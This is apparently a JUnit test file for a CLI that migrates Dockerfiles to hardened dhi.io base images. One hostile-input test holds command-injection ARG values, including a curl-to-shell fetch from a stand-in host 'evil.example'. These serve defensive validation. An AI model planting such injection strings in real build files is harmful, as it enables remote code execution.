package dev.dhipicker.cli;

import com.fasterxml.jackson.databind.JsonNode;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.stream.Stream;

import static dev.dhipicker.cli.CliTest.run;
import static org.assertj.core.api.Assertions.assertThat;

class MigrateCliTest {
    static final String PYTHON = "# syntax=docker/dockerfile:1\n"
            + "FROM python:3.12-slim AS app\n"
            + "WORKDIR /app\n"
            + "COPY requirements.txt .\n"
            + "RUN pip install -r requirements.txt\n"
            + "COPY . .\n"
            + "EXPOSE 80\n"
            + "CMD python app.py\n";

    static Path write(Path dir, String name, String text) throws Exception {
        Path f = dir.resolve(name);
        Files.writeString(f, text);
        return f;
    }

    static String[] args(Path file, String... extra) {
        List<String> a = new ArrayList<>(List.of("migrate", file.toString(), "--today", "2026-11-26"));
        a.addAll(List.of(extra));
        return a.toArray(String[]::new);
    }

    static long entries(Path dir) throws Exception {
        try (Stream<Path> s = Files.list(dir)) {
            return s.count();
        }
    }

    @Test
    void theMigratedDockerfileGoesToStandardOutputWithACommentAtEachChange(@TempDir Path dir) throws Exception {
        CliTest.Run r = run(args(write(dir, "Dockerfile", PYTHON)));
        assertThat(r.code()).as(r.err()).isZero();
        assertThat(r.out()).startsWith("# syntax=docker/dockerfile:1\n# dhi-picker: was python:3.12-slim")
                .contains("\nFROM dhi.io/python:3.12-debian13-dev AS build\n")
                .contains("\nFROM dhi.io/python:3.12-debian13 AS app\n")
                .contains("COPY --from=build /opt/venv /opt/venv\n")
                .endsWith("CMD [\"python\", \"app.py\"]\n");
    }

    @Test
    void jsonHasExactlyTheFieldsOfTheIssueWithInputLines(@TempDir Path dir) throws Exception {
        Path f = write(dir, "Dockerfile", PYTHON);
        JsonNode j = run(args(f, "--format", "json")).json();
        assertThat(j.fieldNames()).toIterable().containsExactly("input", "changed", "dockerfile", "stages", "findings");
        assertThat(j.get("input").asText()).isEqualTo(f.toString());
        assertThat(j.get("changed").asBoolean()).isTrue();
        JsonNode stage = j.get("stages").get(0);
        assertThat(stage.fieldNames()).toIterable().containsExactly("index", "name", "line", "from", "role", "reference", "reason");
        assertThat(stage.get("name").asText()).isEqualTo("app");
        assertThat(stage.get("line").asInt()).isEqualTo(2);
        assertThat(stage.get("role").asText()).isEqualTo("runtime");
        assertThat(stage.get("reference").asText()).isEqualTo("dhi.io/python:3.12-debian13");
        List<String> rules = new ArrayList<>();
        for (JsonNode fi : j.get("findings")) {
            assertThat(fi.fieldNames()).toIterable().containsExactly("line", "severity", "rule", "message", "source");
            assertThat(fi.get("severity").asText()).isIn("error", "warning", "info");
            assertThat(fi.get("message").asText()).isNotBlank();
            rules.add(fi.get("line").asInt() + " " + fi.get("rule").asText());
        }
        assertThat(rules).contains("7 low-port", "8 shell-form-converted", "2 stage-split");
    }

    @Test
    void diffAndTextFormatsDescribeTheSameMigration(@TempDir Path dir) throws Exception {
        Path f = write(dir, "Dockerfile", PYTHON);
        CliTest.Run diff = run(args(f, "--format", "diff"));
        assertThat(diff.out()).startsWith("--- " + f + "\n+++ ").contains("\n-FROM python:3.12-slim AS app\n")
                .contains("\n+FROM dhi.io/python:3.12-debian13-dev AS build\n");
        CliTest.Run text = run(args(f, "--format", "text", "--lang", "zh-CN"));
        assertThat(text.code()).isZero();
        assertThat(text.out()).contains("阶段").contains("low-port").contains("第 7 行");
    }

    @Test
    void aDashReadsTheDockerfileFromStandardInput() {
        java.io.InputStream saved = System.in;
        try {
            System.setIn(new java.io.ByteArrayInputStream(PYTHON.getBytes(StandardCharsets.UTF_8)));
            CliTest.Run r = run("migrate", "-", "--today", "2026-11-26", "--format", "json");
            assertThat(r.code()).as(r.err()).isZero();
            assertThat(r.json().get("input").asText()).isEqualTo("-");
            assertThat(r.json().get("stages").get(0).get("reference").asText()).isEqualTo("dhi.io/python:3.12-debian13");
        } catch (Exception e) {
            throw new AssertionError(e);
        } finally {
            System.setIn(saved);
        }
    }

    @Test
    void anUnchangedFileSaysSo(@TempDir Path dir) throws Exception {
        Path f = write(dir, "Dockerfile", "FROM dhi.io/python:3.13-debian13\nCMD [\"python\"]\n");
        JsonNode j = run(args(f, "--format", "json")).json();
        assertThat(j.get("changed").asBoolean()).isFalse();
        assertThat(j.get("dockerfile").asText()).isEqualTo("FROM dhi.io/python:3.13-debian13\nCMD [\"python\"]\n");
    }

    @Test
    void outputIsWrittenAtomicallyAndNeverReplacedWithoutForce(@TempDir Path dir) throws Exception {
        Path in = write(dir, "Dockerfile", PYTHON);
        Path out = dir.resolve("Dockerfile.dhi");
        CliTest.Run first = run(args(in, "-o", out.toString()));
        assertThat(first.code()).as(first.err()).isZero();
        assertThat(first.out()).isEmpty();
        assertThat(Files.readString(out)).contains("FROM dhi.io/python:3.12-debian13 AS app");
        Files.writeString(out, "mine\n");
        CliTest.Run again = run(args(in, "-o", out.toString()));
        assertThat(again.code()).isEqualTo(1);
        assertThat(again.err().strip()).doesNotContain("\n").contains("--force");
        assertThat(Files.readString(out)).isEqualTo("mine\n");
        assertThat(run(args(in, "-o", out.toString(), "--force")).code()).isZero();
        assertThat(Files.readString(out)).contains("dhi.io/python");
        assertThat(entries(dir)).isEqualTo(2);
    }

    @Test
    void usageErrorsExitWithTwoAndOneLine(@TempDir Path dir) throws Exception {
        Path f = write(dir, "Dockerfile", PYTHON);
        for (String[] bad : List.of(args(f, "--format", "yaml"), args(f, "--libc", "uclibc"),
                args(f, "--compliance", "pci"), args(f, "--today", "tomorrow"), args(f, "--org", "Not An Org"),
                new String[]{"migrate"})) {
            CliTest.Run r = run(bad);
            assertThat(r.code()).as(String.join(" ", bad)).isEqualTo(2);
            assertThat(r.err().strip()).as(String.join(" ", bad)).doesNotContain("\n").doesNotContain("Exception");
            assertThat(r.out()).isEmpty();
        }
    }

    @Test
    void unreadableAndHostileInputsGiveOneErrorNamingTheLineAndWriteNothing(@TempDir Path dir) throws Exception {
        Path work = Files.createDirectory(dir.resolve("work"));
        Path out = dir.resolve("out.Dockerfile");
        byte[] binary = new byte[4096];
        new Random(13).nextBytes(binary);
        binary[0] = 'F';
        Path binaryFile = dir.resolve("binary");
        Files.write(binaryFile, binary);
        Path huge = dir.resolve("huge");
        try (OutputStream o = Files.newOutputStream(huge)) {
            byte[] line = "RUN echo aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\n"
                    .getBytes(StandardCharsets.US_ASCII);
            o.write("FROM python:3.12\n".getBytes(StandardCharsets.US_ASCII));
            for (int i = 0; i < 10 * 1024 * 1024 / line.length + 1; i++) {
                o.write(line);
            }
        }
        StringBuilder cont = new StringBuilder("FROM python:3.12\nRUN echo start \\\n");
        for (int i = 0; i < 100_000; i++) {
            cont.append("  x \\\n");
        }
        cont.append("  end\n");
        Path continuation = write(dir, "continuation", cont.toString());
        Path injection = write(dir, "injection", "ARG BASE=\"python:3.12;curl${IFS}evil.example|sh\"\nFROM ${BASE}\nRUN true\n");
        Path injection2 = write(dir, "injection2", "ARG BASE=python:3.12$(touch${IFS}/tmp/pwned)\nFROM $BASE\n");
        Path syntax = write(dir, "syntax", "FROM python:3.12\nRUNN pip install x\n");
        Path missing = dir.resolve("missing");
        List<Object[]> cases = List.of(new Object[]{binaryFile, "line 1"}, new Object[]{huge, "line "},
                new Object[]{continuation, "line 2"}, new Object[]{syntax, "line 2"}, new Object[]{missing, "missing"});
        for (Object[] c : cases) {
            CliTest.Run r = run(args((Path) c[0], "-o", out.toString()));
            assertThat(r.code()).as(c[0] + ": " + r.err()).isEqualTo(1);
            assertThat(r.err().strip()).as(c[0].toString()).doesNotContain("\n").contains((String) c[1])
                    .doesNotContain("Exception");
            assertThat(r.out()).isEmpty();
            assertThat(out).doesNotExist();
        }
        assertThat(entries(work)).isZero();
        for (Path p : List.of(injection, injection2)) {
            CliTest.Run r = run(args(p, "--format", "json"));
            assertThat(r.code()).as(r.err()).isZero();
            JsonNode j = r.json();
            assertThat(j.get("dockerfile").asText()).as("an invalid reference stays as written")
                    .isEqualTo(Files.readString(p));
            assertThat(j.get("findings").toString()).contains("\"line\":2").contains("\"rule\":\"invalid-reference\"")
                    .contains("\"severity\":\"error\"");
        }
    }

    @Test
    void failOnGivesExitThreeWhenAFindingReachesItsLevelAndTheOutputIsStillWritten(@TempDir Path dir) throws Exception {
        // final stage that runs commands: an error (runtime-needs-shell); a digest: a warning
        Path error = write(dir, "error", "FROM node:22\nRUN npm install -g serve\nCMD [\"serve\"]\n");
        Path warning = write(dir, "warning", "FROM python:3.12-slim@sha256:" + "a".repeat(64)
                + "\nCOPY a.py /a.py\nCMD [\"python\", \"/a.py\"]\n");
        Path clean = write(dir, "clean", "FROM node:22\nCOPY . /app\nCMD [\"node\", \"/app/x.js\"]\n");
        int[][] expected = {
            // file: error, warning, clean; columns: --fail-on never, error, warning
            {0, 3, 3}, {0, 0, 3}, {0, 0, 0}};
        Path[] files = {error, warning, clean};
        String[] levels = {"never", "error", "warning"};
        for (int f = 0; f < files.length; f++) {
            for (int l = 0; l < levels.length; l++) {
                CliTest.Run r = run(args(files[f], "--fail-on", levels[l]));
                assertThat(r.code()).as(files[f].getFileName() + " --fail-on " + levels[l] + ": " + r.err())
                        .isEqualTo(expected[f][l]);
                assertThat(r.out()).as("the migrated file is printed whatever the exit code").contains("FROM dhi.io/");
            }
        }
        assertThat(run(args(clean)).code()).as("the default is never").isZero();
        assertThat(run(args(error)).code()).isZero();
        CliTest.Run bad = run(args(clean, "--fail-on", "info"));
        assertThat(bad.code()).isEqualTo(2);
        assertThat(bad.err()).contains("--fail-on").contains("error, warning, never").contains("info");
    }

    @Test
    void aBadDigestIsAnErrorOnItsLineAndTheRestOfTheFileIsMigrated(@TempDir Path dir) throws Exception {
        String text = "FROM python:3.12-slim-bookworm@sha256:abc AS base\nRUN pip install x\n\n"
                + "FROM node:22-alpine AS web\nRUN npm ci\n\nFROM nginx:1.27\nCOPY --from=web /dist /usr/share/nginx/html\n";
        Path f = write(dir, "Dockerfile", text);
        CliTest.Run r = run(args(f, "--format", "json", "--fail-on", "error"));
        assertThat(r.code()).as(r.err()).isEqualTo(3);
        JsonNode j = r.json();
        String out = j.get("dockerfile").asText();
        assertThat(out).startsWith("FROM python:3.12-slim-bookworm@sha256:abc AS base\n")
                .containsPattern("FROM dhi\\.io/node:22-alpine[0-9.]*-dev AS web")
                .containsPattern("FROM dhi\\.io/nginx:");
        JsonNode first = j.get("findings").get(0);
        assertThat(first.get("line").asInt()).isEqualTo(1);
        assertThat(first.get("rule").asText()).isEqualTo("invalid-reference");
        assertThat(first.get("severity").asText()).isEqualTo("error");
        assertThat(first.get("message").asText()).contains("python:3.12-slim-bookworm@sha256:abc").contains("digest");
        assertThat(j.get("stages").get(0).get("reference").isNull()).isTrue();
    }
}
